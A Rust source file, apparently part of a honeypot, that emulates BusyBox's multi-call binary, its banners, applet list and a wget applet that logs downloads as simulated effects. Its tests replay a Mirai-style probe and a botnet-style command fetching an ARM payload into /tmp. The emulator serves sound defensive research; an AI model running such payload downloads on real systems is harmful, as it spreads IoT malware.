//! `busybox`: the multi-call binary. `busybox APPLET …` runs the emulated applet (BusyBox's own
//! `wget` transcript included); unknown applets answer like BusyBox (`X: applet not found`),
//! which is what Mirai-style probes check.

use super::{Ctx, Place, Spec};
use crate::persona::Family;

pub(crate) static SPECS: &[Spec] = &[Spec { name: "busybox", place: Place::Bin, builtin: false, present: |p| p.os.family != Family::Rhel, run }];

/// Applets BusyBox builds commonly include that we also emulate.
const APPLETS: &[&str] = &[
    "[", "arch", "ash", "awk", "base64", "basename", "cat", "chmod", "chown", "chgrp", "clear", "cp", "crontab", "cut", "date", "df", "dirname", "dmesg", "du", "echo", "egrep", "env", "false", "fdisk", "fgrep", "free", "ftpget", "grep", "gunzip", "gzip", "head", "hostname", "id", "ifconfig", "ip", "kill", "killall", "ln", "ls", "lsmod", "md5sum", "mkdir", "mktemp", "mount", "mv", "netstat", "nohup", "nproc", "ping", "pidof", "printf", "ps", "pwd", "readlink", "realpath", "rev", "rm", "rmdir", "route", "sed", "seq", "sh", "sha1sum", "sha256sum", "sha512sum", "sleep", "sort", "stat", "sync", "tac", "tail", "tar", "tee", "test", "tftp", "timeout", "top", "touch", "tr", "true", "uname", "uniq", "unzip", "uptime", "users", "w", "wc", "wget", "which", "who", "whoami", "xargs", "yes",
];

pub(crate) fn banner(ctx: &Ctx<'_>) -> &'static str {
    let p = &ctx.st.sys.persona;
    match (p.os.family, p.os.version_id.as_str()) {
        (Family::Alpine, _) => "BusyBox v1.36.1 (2024-06-10 07:11:47 UTC) multi-call binary.",
        (Family::Ubuntu, "20.04") => "BusyBox v1.30.1 (Ubuntu 1:1.30.1-4ubuntu6.5) multi-call binary.",
        (Family::Ubuntu, "22.04") => "BusyBox v1.30.1 (Ubuntu 1:1.30.1-7ubuntu3.1) multi-call binary.",
        (Family::Ubuntu, _) => "BusyBox v1.36.1 (Ubuntu 1:1.36.1-6ubuntu3.1) multi-call binary.",
        (_, "11") => "BusyBox v1.30.1 (Debian 1:1.30.1-6+b3) multi-call binary.",
        _ => "BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.",
    }
}

fn run(ctx: &mut Ctx<'_>, args: &[String]) -> i32 {
    // Invoked through a symlink (`/bin/ls -> busybox` on Alpine): act as that applet.
    let invoked = crate::vfs::base_name(&args[0]).to_owned();
    if invoked != "busybox" {
        let mut argv = args.to_vec();
        argv[0] = invoked;
        return applet(ctx, argv);
    }
    match args.get(1).map(String::as_str) {
        None | Some("--help") => {
            let mut list = String::from("\t");
            let mut col = 8;
            for (i, a) in APPLETS.iter().enumerate() {
                let item = if i + 1 == APPLETS.len() { (*a).to_owned() } else { format!("{a}, ") };
                if col + item.trim_end().len() > 78 {
                    list.truncate(list.trim_end().len());
                    list.push_str("\n\t");
                    col = 8;
                }
                list.push_str(&item);
                col += item.len();
            }
            ctx.out(format!("{}\nBusyBox is copyrighted by many authors between 1998-2015.\nLicensed under GPLv2. See source distribution for detailed\ncopyright notices.\n\nUsage: busybox [function [arguments]...]\n   or: busybox --list[-full]\n   or: busybox --show SCRIPT\n   or: busybox --install [-s] [DIR]\n   or: function [arguments]...\n\n\tBusyBox is a multi-call binary that combines many common Unix\n\tutilities into a single executable.  Most people will create a\n\tlink to busybox for each function they wish to use and BusyBox\n\twill act like whatever it was invoked as.\n\nCurrently defined functions:\n{list}\n\n", banner(ctx)));
            0
        }
        Some("--list") => {
            let text: String = APPLETS.iter().map(|a| format!("{a}\n")).collect();
            ctx.out(text);
            0
        }
        Some(_) => applet(ctx, args[1..].to_vec()),
    }
}

fn applet(ctx: &mut Ctx<'_>, argv: Vec<String>) -> i32 {
    let name = argv[0].clone();
    if !APPLETS.contains(&name.as_str()) {
        ctx.err(format!("{name}: applet not found\n"));
        return 127;
    }
    if name == "wget" {
        let mut out_doc = None;
        let mut quiet = false;
        let mut urls = Vec::new();
        let mut i = 1;
        while i < argv.len() {
            match argv[i].as_str() {
                "-O" => {
                    out_doc = argv.get(i + 1).cloned();
                    i += 1;
                }
                "-q" => quiet = true,
                a if a.starts_with("-O") => out_doc = Some(a[2..].to_owned()),
                a if a.starts_with('-') => {}
                a => urls.push(a.to_owned()),
            }
            i += 1;
        }
        return super::fetch::bb_fetch(ctx, &urls, out_doc, quiet, "busybox wget");
    }
    let mut argv = argv;
    if name == "sh" {
        // BusyBox's shell is ash whatever it is called.
        argv[0] = "ash".to_owned();
    }
    match super::find(&name) {
        Some(spec) => (spec.run)(ctx, &argv),
        None => {
            ctx.err(format!("{name}: applet not found\n"));
            127
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::commands::testing::{run, shell};
    use crate::Effect;

    #[test]
    fn busybox_applets() {
        let mut sh = shell("debian12");
        assert_eq!(run(&mut sh, "/bin/busybox MIRAI; echo $?").0, "MIRAI: applet not found\n127\n");
        assert_eq!(run(&mut sh, "busybox echo -e 'a\\x41'").0, "aA\n");
        let o = sh.execute("cd /tmp; busybox wget http://203.0.113.3/m.arm7 -O m");
        assert!(matches!(&o.effects[0], Effect::Download { tool, .. } if tool == "busybox wget"));
        assert!(String::from_utf8_lossy(&o.output).starts_with("Connecting to 203.0.113.3 (203.0.113.3:80)\nsaving to 'm'\n"));
    }
}
